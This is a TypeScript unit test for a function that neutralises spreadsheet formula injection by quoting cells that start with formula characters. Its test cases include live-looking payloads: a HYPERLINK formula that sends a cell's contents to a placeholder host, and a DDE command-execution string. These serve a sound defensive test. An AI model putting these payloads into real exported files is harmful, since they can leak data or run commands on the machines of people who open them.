import assert from 'node:assert/strict';
import { test } from 'node:test';
import { spreadsheetSafe } from './spreadsheet.js';

test('cells a spreadsheet would run are written as text; numbers and ordinary text stay as they are', () => {
  const cases: [string, string][] = [
    ['=HYPERLINK("http://x.example/?"&A1,"click")', `'=HYPERLINK("http://x.example/?"&A1,"click")`],
    ['+1+cmd|" /C calc"!A0', `'+1+cmd|" /C calc"!A0`],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['+12025550101', '+12025550101'],
    ['-5', '-5'],
    ['+3.25', '+3.25'],
    ['Hi Ada, 20% off = a deal', 'Hi Ada, 20% off = a deal'],
    ['', ''],
    ["'already quoted", "'already quoted"],
  ];
  for (const [input, expected] of cases) assert.equal(spreadsheetSafe(input), expected, JSON.stringify(input));
});
